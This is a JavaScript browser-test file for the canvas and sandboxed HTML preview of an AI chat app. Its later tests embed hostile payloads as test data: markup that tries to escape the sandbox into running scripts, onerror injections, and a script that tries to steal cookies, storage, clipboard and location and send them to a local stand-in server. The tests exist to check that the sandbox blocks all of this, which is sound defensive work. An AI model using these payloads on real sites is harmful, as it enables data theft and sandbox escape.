// The canvas: a long block beside the conversation, its versions across turns, and the preview, which hostile documents
// cannot leave.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import https from 'node:https';
import { test } from 'node:test';

import { Chat } from '../lib/chat.js';
import { axe, axeInBothSchemes } from '../lib/look.js';
import { answers, asksForAnswer, phone, ready, stage, until } from '../lib/stage.js';

const { alfred, provider, open } = await stage();
const anna = await alfred.admin('anna');

const many = (line, n = 20) => Array.from({ length: n }, (_, i) => line(i)).join('\n');
const block = (language, text) => `\`\`\`${language}\n${text}\n\`\`\``;
const PYTHON = (last) => `# planner.py\n${many((i) => `def step_${i}(): return ${i} * 2`)}\n${last}`;
const PAGE = `<!doctype html>\n<title>Bread, a plan</title>\n<style>body { background: rgb(250, 240, 230) }</style>\n<h1>Bread</h1>\n${many((i) => `<p>Line ${i}</p>`)}\n<script>document.title = 'ran'; document.body.append('Scripts run')</script>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 20 20">\n${many((i) => `<rect x="${i}" width="1" height="${i}"/>`)}\n</svg>`;

/** A session of these exchanges, made through the API. */
async function session(...exchanges) {
    let url = '/page/sessions/new/messages', made = null;
    for (const [text, answer] of exchanges) {
        provider.next(answers(answer), (call) => asksForAnswer(call) && call.asks(text));
        const sent = await anna.postJson(made ? `/api/sessions/${made.id}/messages` : '/api/sessions/new/messages', { text });
        await (await anna.events(`/api/turns/${sent.json.turn}/events`)).until((e) => e.event === 'end');
        made ??= sent.json.session;
    }
    return made.url;
}

const plan = await session(
    ['A planner, please', `Here is \`planner.py\`:\n\n${block('python', PYTHON('print("one")'))}\n\nAnd a short one:\n\n${block('python', 'print(1)')}`],
    ['Make it two', `Changed:\n\n${block('python', PYTHON('print("two")'))}\n\nA page for it:\n\n${block('html', PAGE)}\n\n${block('svg', SVG)}`],
);

const canvas = (page) => page.locator('#canvas');
const opener = (page, index) => page.getByRole('button', { name: 'Open', exact: true }).nth(index);

test('the head of long code stays in view below the bar, with its buttons', async (t) => {
    const url = await session(['Long code', `Here:\n\n${block('python', many((i) => `step_${i} = ${i}`, 150))}\n\n${many((i) => `Sentence ${i}.\n`, 60)}`]);
    for (const options of [{ viewport: { width: 1440, height: 900 } }, phone]) {
        const page = await open(t, { as: anna, path: url, ...options });
        await page.locator('.hljs-number').first().waitFor();
        await page.locator('.code').evaluate((el) => scrollTo(0, el.getBoundingClientRect().top + scrollY + 1200));
        const [head, bar] = await Promise.all(['.code-head', '.bar'].map((s) => page.locator(s).boundingBox()));
        assert.ok(Math.abs(head.y - bar.y - bar.height) <= 1, JSON.stringify([head, bar]));
        await page.getByRole('button', { name: 'Copy', exact: true }).first().click({ trial: true });
        await page.locator('.code').evaluate((el) => scrollTo(0, el.getBoundingClientRect().bottom + scrollY));
        assert.ok((await page.locator('.code-head').boundingBox()).y < 0, 'it leaves with its code');
    }
});

test('a page opens as its preview; Code pressed twice keeps its colours', async (t) => {
    const page = await open(t, { as: anna, path: plan });
    await opener(page, 2).click();
    await page.frameLocator('#canvas iframe').getByRole('heading', { name: 'Bread' }).waitFor();
    assert.equal(await page.frameLocator('#canvas iframe').getByText('Scripts run').count(), 0);
    const code = canvas(page).getByRole('button', { name: 'Code' }), coloured = canvas(page).locator('pre [class^=hljs]');
    await code.click();
    await coloured.first().waitFor();
    const before = await coloured.count();
    await code.click();
    assert.equal(await coloured.count(), before);
    await canvas(page).getByRole('button', { name: 'Preview' }).click();
    await code.click();
    await until('the colours are back', async () => (await coloured.count()) === before);
});

test('beside the canvas the message box keeps room for its boxes, and the title stands over the messages', async (t) => {
    const page = await open(t, { as: anna, path: plan, viewport: { width: 1600, height: 900 } });
    await opener(page, 2).click();
    await canvas(page).waitFor();
    const x = async (sel) => (await page.locator(sel).first().boundingBox()).x;
    assert.equal(await x('.bar-title'), await x('#transcript'));
    for (const width of [1600, 1440, 1200, 1000]) {
        await page.setViewportSize({ width, height: 900 });
        const row = await page.locator('#composer .choice').first().evaluate((el) => ({ wide: el.scrollWidth - el.clientWidth, px: el.clientWidth, text: el.textContent.trim() }));
        assert.ok(row.wide <= 0 && row.px >= 100, `${width}: ${JSON.stringify(row)}`);
    }
    await page.keyboard.press('Escape');
    await page.setViewportSize({ width: 1440, height: 900 });
    await opener(page, 2).click();
    await page.locator('.side').waitFor({ state: 'hidden' }); // it makes room
    await page.keyboard.press('Escape');
    await page.locator('.side').waitFor();
});

test('long blocks open beside the conversation, short ones do not', async (t) => {
    const page = await open(t, { as: anna, path: plan, viewport: { width: 1440, height: 900 } });
    await opener(page, 0).waitFor();
    assert.equal(await page.getByRole('button', { name: 'Open', exact: true }).count(), 4);
    const before = await page.locator('#page').boundingBox();
    await opener(page, 0).click();
    const panel = page.getByRole('complementary', { name: 'planner.py' });
    await panel.waitFor();
    assert.equal((await panel.locator('pre').innerText()).trimEnd(), PYTHON('print("one")'));
    await panel.locator('.hljs-keyword').first().waitFor();
    const [text, side] = [await page.locator('#page').boundingBox(), await panel.boundingBox()];
    assert.ok(text.width < before.width && text.x + text.width <= side.x + 1, 'neither covers the other');
    assert.ok(await page.getByRole('textbox', { name: 'Message Alfred' }).isEditable());
    assert.ok((await page.locator('.foot').boundingBox()).width >= 300);
});

test('a short page and a short drawing open as their previews', async (t) => {
    const url = await session(['Short ones', `${block('html', '<!doctype html>\n<h1>Hello</h1>')}\n\n${block('svg', '<svg viewBox="0 0 9 9"><circle r="9"/></svg>')}\n\n${block('html', '<b>a part</b>')}`]);
    const page = await open(t, { as: anna, path: url });
    await opener(page, 1).click();
    await page.frameLocator('#canvas iframe').locator('img, svg').first().waitFor();
    await opener(page, 0).click();
    await page.frameLocator('#canvas iframe').getByRole('heading', { name: 'Hello' }).waitFor();
    assert.equal(await page.getByRole('button', { name: 'Open', exact: true }).count(), 2);
});

test('versions across turns, by arrows; a new answer brings the next one', async (t) => {
    const url = await session(['Begin', block('python', PYTHON('print("one")'))], ['Go on', block('python', PYTHON('print("two")'))]);
    const page = await open(t, { as: anna, path: url });
    const chat = new Chat(page), panel = canvas(page);
    await opener(page, 0).click();
    await panel.getByText('1 / 2').waitFor();
    assert.ok(await panel.getByRole('button', { name: 'Previous version' }).isDisabled());
    await panel.getByRole('button', { name: 'Next version' }).press('Enter');
    await panel.getByText('print("two")').waitFor();
    assert.ok(await panel.getByRole('button', { name: 'Previous version' }).evaluate((el) => el === document.activeElement), 'the button with the focus is disabled now');
    await chat.exchange(provider, answers(`Sure.\n\n${block('python', PYTHON('print("three")'))}`), 'Once more');
    await panel.getByText('3 / 3').waitFor();
    assert.match(await panel.locator('pre').innerText(), /print\("three"\)/);
    await chat.exchange(provider, answers(block('python', many((i) => `other_${i} = ${i * 7}`))), 'Something else');
    await opener(page, 3).waitFor();
    assert.equal(await panel.getByText('3 / 3').count(), 1, 'another document is no version of this one');
});

test('copy and download have the whole text and a sensible name', async (t) => {
    const page = await open(t, { as: anna, path: plan, permissions: ['clipboard-read', 'clipboard-write'] });
    for (const [index, name, text] of [[1, 'planner.py', PYTHON('print("two")')], [2, 'bread-a-plan.html', PAGE], [3, 'a-short-title.svg', SVG]]) {
        await opener(page, index).click();
        await canvas(page).getByRole('heading', { name }).waitFor();
        const [file] = await Promise.all([page.waitForEvent('download'), canvas(page).getByRole('button', { name: 'Download' }).click()]);
        assert.equal(file.suggestedFilename(), name);
        assert.equal(readFileSync(await file.path(), 'utf8').trimEnd(), text);
        await canvas(page).getByRole('button', { name: 'Copy' }).click();
        await canvas(page).getByRole('button', { name: 'Copied' }).waitFor();
        assert.equal((await page.evaluate(() => navigator.clipboard.readText())).trimEnd(), text);
        await page.keyboard.press('Escape');
    }
});

const ESSAY = (last) => `# Bread at home\n\n${Array.from({ length: 9 }, (_, i) => `Paragraph ${i} tells of **flour** and water, and of the time that they need together before anything else is done.`).join('\n\n')}\n\n\`\`\`sh\nbake\n\`\`\`\n\nIt takes $t^2$ hours.\n\n${last}`;

test('the name of a document keeps the letters of its language', async (t) => {
    const url = await session(['Overview', ESSAY('The end.').replace('Bread at home', 'Übersicht: हिन्दी')]);
    const page = await open(t, { as: anna, path: url });
    await page.locator('article .ibtn[aria-label="Open beside the conversation"]').click();
    await page.getByRole('complementary', { name: 'übersicht-हिन्दी.md' }).waitFor();
});

test('a long answer of prose opens beside the conversation, with its versions, copy and download', async (t) => {
    const url = await session(['An essay', ESSAY('One end.')], ['Short?', 'Short.'], ['Only code?', block('js', many((i) => `let a${i};`))]);
    const page = await open(t, { as: anna, path: url, permissions: ['clipboard-read', 'clipboard-write'] });
    const beside = page.locator('article .ibtn[aria-label="Open beside the conversation"]'); // beyond the window no role is known
    assert.equal(await beside.count(), 1, 'neither a short answer nor one of code');
    await beside.click();
    const panel = page.getByRole('complementary', { name: 'bread-at-home.md' }), text = panel.getByRole('region', { name: 'Text of the document' });
    await text.getByRole('heading', { name: 'Bread at home' }).waitFor();
    assert.equal(await text.locator('strong').count(), 9);
    await text.locator('.katex').waitFor();
    await new Chat(page).exchange(provider, answers(ESSAY('Another end.')), 'Another end, please');
    await panel.getByText('2 / 2').waitFor();
    await text.getByText('Another end.').waitFor();
    await panel.getByRole('button', { name: 'Previous version' }).click();
    await text.getByText('One end.').waitFor();
    const [file] = await Promise.all([page.waitForEvent('download'), panel.getByRole('button', { name: 'Download' }).click()]);
    assert.equal(file.suggestedFilename(), 'bread-at-home.md');
    assert.equal(readFileSync(await file.path(), 'utf8').trimEnd(), ESSAY('One end.'));
    await panel.locator('.canvas-tools').getByRole('button', { name: 'Copy' }).click();
    await panel.getByRole('button', { name: 'Copied' }).waitFor();
    assert.equal((await page.evaluate(() => navigator.clipboard.readText())).trimEnd(), ESSAY('One end.'));
    await panel.getByRole('button', { name: 'Markdown' }).click();
    await panel.getByText('# Bread at home').waitFor();
    assert.equal(await text.count(), 0);
    assert.deepEqual(await axe(page, { within: '#canvas' }), []);
    await panel.getByRole('button', { name: 'Text', exact: true }).click();
    await text.waitFor();
    assert.deepEqual(await axe(page, { within: '#canvas' }), []);
    await page.keyboard.press('Escape');
    assert.equal(await page.evaluate(() => document.activeElement.dataset.act), 'open');
});

test('Esc closes and the focus returns, from every place', async (t) => {
    const page = await open(t, { as: anna, path: plan });
    const focused = () => page.evaluate(() => [document.activeElement.className, document.querySelectorAll('.code-open')[2] === document.activeElement]);
    for (const where of ['panel', 'button', 'box', 'frame']) {
        await opener(page, 2).focus();
        await page.keyboard.press('Enter');
        await canvas(page).waitFor();
        assert.equal(await page.evaluate(() => document.activeElement.id), 'canvas');
        if (where === 'button') await page.keyboard.press('Tab');
        if (where === 'box') await page.locator('#text').focus();
        if (where === 'frame') {
            await canvas(page).getByRole('button', { name: 'Preview' }).click();
            await page.frameLocator('#canvas iframe').getByRole('heading', { name: 'Bread' }).click();
        }
        await page.keyboard.press('Escape');
        await canvas(page).waitFor({ state: 'detached' });
        assert.deepEqual(await focused(), ['code-open', true], where);
    }
});

test('in a narrow window it is a sheet over the conversation', async (t) => {
    const page = await open(t, { as: anna, path: plan, ...phone });
    await opener(page, 2).tap();
    const sheet = page.getByRole('dialog', { name: 'bread-a-plan.html' });
    await sheet.waitFor();
    assert.deepEqual(await sheet.boundingBox(), { x: 0, y: 0, width: 360, height: 740 });
    assert.ok(await page.locator('#page').evaluate((el) => el.inert));
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360);
    for (const b of await sheet.getByRole('button').all()) if (await b.isVisible()) assert.ok((await b.boundingBox()).height >= 40);
    await page.setViewportSize({ width: 1000, height: 700 });
    await page.getByRole('complementary', { name: 'bread-a-plan.html' }).waitFor();
    assert.equal(await page.locator('#page').evaluate((el) => el.inert), false);
    await page.setViewportSize({ width: 360, height: 740 });
    await sheet.getByRole('button', { name: 'Close' }).click();
    assert.equal(await page.locator('#page').evaluate((el) => el.inert), false);
});

test('over the conversation it is closed by Back, and Close leaves nothing in the history', async (t) => {
    const page = await open(t, { as: anna, path: '/memory', ...phone });
    await page.goto(plan);
    await ready(page);
    const sheet = page.getByRole('dialog', { name: 'bread-a-plan.html' }), address = page.url();
    const place = () => page.evaluate(() => scrollY);
    await opener(page, 2).scrollIntoViewIfNeeded();
    const before = await place();
    await opener(page, 2).tap();
    await sheet.waitFor();
    await page.evaluate(() => history.back());
    await sheet.waitFor({ state: 'detached' });
    assert.equal(page.url(), address);
    assert.equal(await place(), before);
    for (const close of [() => sheet.getByRole('button', { name: 'Close' }).tap(), () => page.keyboard.press('Escape')]) {
        await opener(page, 2).tap();
        await sheet.waitFor();
        await close();
        await sheet.waitFor({ state: 'detached' });
        assert.ok(await opener(page, 2).evaluate((el) => el === document.activeElement));
    }
    await opener(page, 2).tap();
    await sheet.waitFor();
    await page.reload();
    await ready(page);
    await until('the entry of the closed canvas is left', () => page.evaluate(() => !history.state?.canvas));
    await page.goBack();
    await page.waitForURL('**/memory');
});

test('without a script the block is in the text, without a button that does nothing', async (t) => {
    const page = await open(t, { as: anna, path: plan, javaScriptEnabled: false });
    await page.locator('.code').getByText('print("two")').waitFor();
    assert.equal(await page.getByRole('button', { name: 'Open', exact: true }).count(), 0);
});

test('axe finds nothing in the canvas', async (t) => {
    for (const options of [{}, phone]) {
        const page = await open(t, { as: anna, path: plan, ...options });
        await opener(page, 1).click();
        await canvas(page).locator('.hljs-keyword').first().waitFor();
        assert.deepEqual(await axeInBothSchemes(page), []);
        await page.keyboard.press('Escape');
        await opener(page, 2).click();
        await canvas(page).getByRole('button', { name: 'Preview' }).click();
        await page.frameLocator('#canvas iframe').getByRole('heading', { name: 'Bread' }).waitFor();
        assert.deepEqual(await axeInBothSchemes(page), []);
    }
});

test('a preview shows pages and pictures with their styles; scripts run only when asked for', async (t) => {
    const page = await open(t, { as: anna, path: plan });
    await opener(page, 2).click();
    const frame = page.frameLocator('#canvas iframe');
    await canvas(page).getByRole('button', { name: 'Preview' }).click();
    await frame.getByText('Line 19').waitFor();
    assert.equal(await frame.locator('body').evaluate((el) => getComputedStyle(el).backgroundColor), 'rgb(250, 240, 230)');
    assert.equal(await frame.getByText('Scripts run').count(), 0);
    await canvas(page).getByRole('button', { name: 'Run scripts' }).click();
    await frame.getByText('Scripts run').waitFor();
    assert.equal(await page.title().then((s) => /ran/.test(s)), false);
    await canvas(page).getByRole('button', { name: 'Code' }).click();
    assert.equal(await page.locator('#canvas iframe').count(), 0);
    await page.keyboard.press('Escape');
    await opener(page, 3).click();
    await canvas(page).getByRole('button', { name: 'Preview' }).click();
    assert.equal(await frame.locator('rect').count(), 20);
});

/** Documents without scripts on, which lead the frame to the address where they run. */
const PROMOTIONS = {
    'a comment that ends in another reading': '<noscript><!--</noscript><meta http-equiv="refresh" content="0;url=/preview/scripts">--></noscript>',
    'a link in a template': '<div><template shadowrootmode="open"><a id="a" href="/preview/scripts">go</a></template></div>',
    'an animated address': '<svg width="90" height="20"><a id="a"><animate attributeName="href" values="/preview/scripts"/><set attributeName="xlink:href" to="/preview/scripts"/><text y="15">go</text></a></svg>',
};

for (const [name, markup] of Object.entries(PROMOTIONS))
    test(`no script runs before Run scripts: ${name}`, async (t) => {
        const ran = `<script>document.body.append('Ran at ' + location.pathname); document.write('<!-' + '-')</script>`;
        const url = await session([`Promoted by ${name}`, block('html', `<!doctype html><body>${many((i) => `<p>Row ${i}</p>`)}${ran}${markup}`)]);
        const page = await open(t, { as: anna, path: url, allow: [/./] });
        await opener(page, 0).click();
        const visited = [];
        page.on('framenavigated', (f) => f !== page.mainFrame() && visited.push(new URL(f.url()).pathname));
        await canvas(page).getByRole('button', { name: 'Preview' }).click();
        const frame = page.frameLocator('#canvas iframe'), link = frame.locator('#a');
        await frame.getByText(/Row 19|Ran at/).first().waitFor();
        if (await link.count()) await link.click({ noWaitAfter: true });
        await page.evaluate(() => new Promise((done) => setTimeout(done, 500))); // a navigation would begin at once
        assert.deepEqual([visited.filter((path) => path !== '/preview'), await frame.getByText('Ran at').count()], [[], 0]);
        assert.ok(await canvas(page).getByRole('button', { name: 'Run scripts' }).isVisible());
    });

test('a frame that leaves does not get the document again', async (t) => {
    const url = await session(['Leave for the preview', block('html', `<!doctype html>${many((i) => `<p>Row ${i}</p>`)}<script>location = '/preview'</script>`)]);
    const page = await open(t, { as: anna, path: url, allow: [/./] });
    await opener(page, 0).click();
    await canvas(page).getByRole('button', { name: 'Preview' }).click();
    await page.frameLocator('#canvas iframe').getByText('Row 19').waitFor();
    await canvas(page).getByRole('button', { name: 'Run scripts' }).click();
    assert.ok(await canvas(page).getByRole('button', { name: 'Preview' }).evaluate((el) => el === document.activeElement), 'its button is gone');
    const inner = () => page.frames().find((f) => f !== page.mainFrame());
    await until('the frame left for /preview/scripts and came back', async () => (await canvas(page).locator('iframe').getAttribute('src')) === '/preview/scripts' && inner()?.url().endsWith('/preview'));
    await inner().waitForLoadState();
    await inner().evaluate(() => new Promise((done) => setTimeout(done, 200))); // the message would be here by then
    assert.equal(await inner().getByText('Row 19').count(), 0);
});

/** A server outside of Alfred that counts every connection. Its certificate is Alfred's, which the browser accepts here. */
async function outside(t) {
    const folder = `${alfred.dataDir}/tls`;
    const server = https.createServer({ cert: readFileSync(`${folder}/cert.pem`), key: readFileSync(`${folder}/key.pem`) }, (req, res) => {
        seen.push(req.url);
        res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('x');
    });
    const seen = [];
    server.on('connection', () => seen.push('a connection'));
    server.on('upgrade', (req, socket) => (seen.push(`upgrade ${req.url}`), socket.destroy()));
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    t.after(() => {
        server.closeAllConnections();
        server.close();
    });
    return { seen, url: `https://localhost:${server.address().port}` };
}

/** Markup that leaves the frame without a script. */
const leaks = (to) => `<!doctype html><meta http-equiv="refresh" content="0;url=${to}/refresh"><base href="${to}/">
<link rel="stylesheet" href="${to}/css"><link rel="prefetch" href="${to}/prefetch"><link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}">
<link rel="preload" as="image" href="${to}/preload"><link rel="icon" href="${to}/icon"><link rel="manifest" href="${to}/manifest">
<style>@import "${to}/import"; @font-face { font-family: f; src: url(${to}/font) } body { font-family: f; background: url(${to}/background) }</style>
<img src="${to}/img" srcset="${to}/srcset 2x"><video src="${to}/video" poster="${to}/poster"></video><audio src="${to}/audio"></audio>
<object data="${to}/object"></object><embed src="${to}/embed"><iframe src="${to}/iframe"></iframe><iframe srcdoc="<img src='${to}/srcdoc'>"></iframe>
<img src="x" onerror="document.body.append('pwned')"><svg onload="document.body.append('pwned')"><a href="${to}/svg-link" id="drawn"><text y="9">drawn</text></a><image href="${to}/svg"/><use href="${to}/use#a"/></svg><input type="image" src="${to}/input"><script src="${to}/script"></script>
<form id="f" action="${to}/form" method="post" target="_top"><button id="submit">Send</button></form>
<a id="top" href="${to}/top" target="_top">top</a><a id="popup" href="${to}/popup" target="_blank">popup</a><a id="self" href="${to}/self" ping="${to}/ping">self</a>
${many((i) => `<p>Row ${i}</p>`)}`;

test('a hostile document without scripts reaches nothing outside', async (t) => {
    const out = await outside(t);
    const url = await session(['Hostile markup', block('html', leaks(out.url))]);
    const page = await open(t, { as: anna, path: url, allow: [/./] }); // refused requests are reported; the server counts those that left
    await opener(page, 0).click();
    await canvas(page).getByRole('button', { name: 'Preview' }).click();
    const frame = page.frameLocator('#canvas iframe');
    await frame.getByText('Row 19').waitFor();
    const pages = page.context().pages().length;
    assert.equal(await frame.getByText('pwned').count(), 0);
    for (const id of ['submit', 'top', 'popup', 'self', 'drawn']) await frame.locator(`#${id}`).click({ noWaitAfter: true });
    // The clicks have no more effects: a navigation of the whole page comes after it, and our own server answers.
    await frame.getByText('Row 19').waitFor();
    assert.equal(new URL(page.url()).pathname, url);
    await page.reload();
    assert.deepEqual(out.seen, []);
    assert.equal(page.context().pages().length, pages, 'no popup');
});

const ATTACKS = (to) => `<!doctype html><p id="log"></p>${many((i) => `<p>Row ${i}</p>`)}<script>
const tries = {
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  session: () => sessionStorage.length,
  database: () => indexedDB.open("x").name,
  parent: () => parent.document.title,
  top: () => top.document.cookie,
  frames: () => parent.frames[0].document.body && parent.location.href,
  navigateTop: () => { top.location = "${to}/top"; return top.location.href; },
  navigateParent: () => { parent.location.assign("${to}/parent"); return parent.location.href; },
  popup: () => window.open("${to}/popup").closed,
  own: () => origin !== "null" && origin,
  alert: () => alert(1) ?? "",
  download: () => { const a = document.createElement("a"); a.href = "data:,x"; a.download = "x"; a.click(); return ""; },
  form: () => { const f = document.createElement("form"); f.action = "${to}/form"; f.method = "post"; f.target = "_top"; document.body.append(f); f.submit(); return ""; },
  image: () => { new Image().src = "${to}/image"; return ""; },
  link: () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "${to}/css"; document.head.append(l); return ""; },
  beacon: () => { navigator.sendBeacon("${to}/beacon", "x"); return ""; },
  socket: () => { new WebSocket("${to}/socket".replace("https", "wss")); return ""; },
  events: () => { new EventSource("${to}/events"); return ""; },
  worker: () => { new Worker(URL.createObjectURL(new Blob(["fetch('${to}/worker')"]))); return ""; },
  nested: () => { const f = document.createElement("iframe"); f.srcdoc = "<img src='${to}/nested'><script>fetch('${to}/nested-fetch')<\\/script>"; document.body.append(f); return ""; },
  inherited: () => { const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch("${to}/inherited").catch(() => {}); return ""; },
  register: () => { navigator.serviceWorker.register("/sw.js").catch(() => {}); return ""; },
};
const got = {};
for (const [name, fn] of Object.entries(tries)) try { const v = fn(); if (v) got[name] = String(v); } catch (e) { }
const later = {
  fetch: () => fetch("${to}/fetch"),
  ours: () => fetch(new URL("/api/me", "${alfred.baseUrl}"), { credentials: "include" }),
  keepalive: () => fetch("${to}/keepalive", { keepalive: true, mode: "no-cors" }),
  import: () => import("${to}/module.js"),
  clipboard: () => navigator.clipboard.readText(),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  place: () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)),
};
Promise.allSettled(Object.entries(later).map(([name, fn]) => Promise.resolve().then(fn).then((v) => { got[name] = String(v); }))).then(() => {
  document.querySelector("#log").textContent = "result " + JSON.stringify(got);
});
</script>`;

test('a hostile document with scripts reaches neither our origin nor the network', async (t) => {
    const out = await outside(t);
    const url = await session(['Hostile scripts', block('html', ATTACKS(out.url))]);
    const page = await open(t, { as: anna, path: url, allow: [/./] });
    const dialogs = [], downloads = [];
    page.on('dialog', (d) => (dialogs.push(d.message()), d.dismiss()));
    page.on('download', (d) => downloads.push(d.url()));
    const pages = page.context().pages().length;
    await opener(page, 0).click();
    await canvas(page).getByRole('button', { name: 'Preview' }).click();
    await canvas(page).getByRole('button', { name: 'Run scripts' }).click();
    const log = page.frameLocator('#canvas iframe').locator('#log');
    await log.filter({ hasText: 'result' }).waitFor();
    assert.equal(await log.textContent(), 'result {}');
    assert.deepEqual(out.seen, []);
    assert.deepEqual([dialogs, downloads, page.context().pages().length], [[], [], pages]);
    assert.equal(new URL(page.url()).pathname, url);
});

test('a document that leaves its frame meets our policy, and a page of ours is not shown in it', async (t) => {
    const out = await outside(t);
    for (const to of [`${out.url}/leave?secret`, `${alfred.baseUrl}/`, `${alfred.baseUrl}/static/js/main.js`, 'data:text/html,<script>fetch("x")</script>']) {
        const url = await session([`Leave to ${to}`, block('html', `<!doctype html>${many((i) => `<p>Row ${i}</p>`)}<script>location = ${JSON.stringify(to).replaceAll('</', '<\\/')}</script>`)]);
        const page = await open(t, { as: anna, path: url, allow: [/./] });
        const failed = page.waitForEvent('console', (m) => m.type() === 'error');
        await opener(page, 0).click();
        await canvas(page).getByRole('button', { name: 'Preview' }).click();
        await canvas(page).getByRole('button', { name: 'Run scripts' }).click();
        await failed;
        // Chromium connects before it asks the policy; nothing is sent.
        assert.deepEqual(out.seen.filter((what) => what !== 'a connection'), [], to);
        const frame = page.frames().find((f) => f !== page.mainFrame());
        assert.equal(await frame.evaluate(() => document.cookie).catch(() => ''), '', to);
        assert.equal(await frame.locator('#transcript, #side').count(), 0, to);
        assert.equal(new URL(page.url()).pathname, url, to);
    }
});

test('the frame of the preview has its own policy, and shows nothing to another site', async () => {
    for (const path of ['/preview', '/preview/scripts']) {
        const { status, headers } = await alfred.client().get(path);
        const policy = headers['content-security-policy'];
        assert.equal(status, 200);
        assert.match(policy, /^default-src 'none'; .*form-action 'none'; frame-ancestors 'self'; .*sandbox allow-scripts; script-src/);
        assert.doesNotMatch(policy, /https?:|\*|'self'(?<!frame-ancestors 'self')|same-origin|connect-src|popups|top-navigation/);
        assert.equal(/unsafe-inline/.test(policy.split('script-src')[1]), path.endsWith('scripts'));
    }
});
